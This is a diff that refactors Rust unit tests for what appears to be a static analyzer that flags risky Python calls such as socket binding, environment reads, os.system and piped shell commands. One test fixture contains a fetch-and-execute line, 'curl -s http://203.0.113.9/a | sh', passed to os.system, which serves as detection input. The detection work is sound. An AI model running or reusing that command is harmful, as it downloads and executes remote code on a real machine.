@@ -907,19 +907,14 @@ impl<'s> Py<'s> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::lang::test_util::{self, assert_has_all, has_pipe};
 
     fn facts(src: &str) -> Vec<FactKind> {
-        let mut sink = Sink::new();
-        scan(src, Origin::Offset(0), &mut sink);
-        sink.facts.into_iter().map(|f| f.kind).collect()
+        test_util::facts(Language::Python, src)
     }
 
     fn callees(src: &str) -> Vec<String> {
-        crate::lang::test_util::callees(facts(src))
-    }
-
-    fn members(src: &str) -> Vec<String> {
-        crate::lang::test_util::members(facts(src))
+        test_util::callees(facts(src))
     }
 
     #[test]
@@ -927,14 +922,15 @@ mod tests {
         let c = callees(
             "import socket, os\nfrom flask import Flask\ns = socket.socket()\ns.bind(('', 80))\napp = Flask(__name__)\napp.run()\nenv = os.environ\nenv.get('X')\no = __import__('os')\no.system(x)",
         );
-        for want in [
-            "socket.socket().bind",
-            "flask.Flask().run",
-            "os.environ.get",
-            "os.system",
-        ] {
-            assert!(c.iter().any(|x| x == want), "{want} not in {c:?}");
-        }
+        assert_has_all(
+            &c,
+            &[
+                "socket.socket().bind",
+                "flask.Flask().run",
+                "os.environ.get",
+                "os.system",
+            ],
+        );
     }
 
     #[test]
@@ -959,19 +955,14 @@ mod tests {
             .collect();
         assert!(matches!(args[0][0], Arg::Dynamic(_)), "{args:?}");
         assert_eq!(args[1][0], Arg::Literal("ls".into()));
-        assert!(
-            f.iter()
-                .any(|k| matches!(k, FactKind::Command { name, pipe_to, .. }
-                if name == "curl" && pipe_to.as_deref() == Some("sh"))),
-            "{f:?}"
-        );
+        assert!(has_pipe(&f, "curl", "sh"), "{f:?}");
     }
 
     #[test]
     fn computed_subscripts_and_call_results_as_members() {
-        let m = members(
+        let m = test_util::members(facts(
             "import os\na = os.environ[name]\nb = os.environ['HOME']\nc = os.environ.copy()\nprint(c)\nd = os.environ\nprint(d)",
-        );
+        ));
         assert!(m.contains(&"os.environ[]".to_string()), "{m:?}");
         assert!(m.contains(&"os.environ.HOME".to_string()), "{m:?}");
         // `print(c)` passes a call's result, not a module path.
@@ -980,8 +971,7 @@ mod tests {
     }
 
     fn strings(src: &str) -> Vec<String> {
-        let mut sink = Sink::new();
-        scan(src, Origin::Offset(0), &mut sink);
+        let sink = test_util::sink(Language::Python, src);
         sink.assembled.into_iter().map(|(v, _, _)| v).collect()
     }
 
@@ -1023,11 +1013,6 @@ mod tests {
         assert!(c.contains(&"urllib.request.urlopen".to_string()), "{c:?}");
         assert!(c.contains(&"exec".to_string()), "{c:?}");
         let f = facts("import os\ncmd = 'curl -s http://203.0.113.9/a | sh'\nos.system(cmd)");
-        assert!(
-            f.iter()
-                .any(|k| matches!(k, FactKind::Command { name, pipe_to, .. }
-                if name == "curl" && pipe_to.as_deref() == Some("sh"))),
-            "{f:?}"
-        );
+        assert!(has_pipe(&f, "curl", "sh"), "{f:?}");
     }
 }
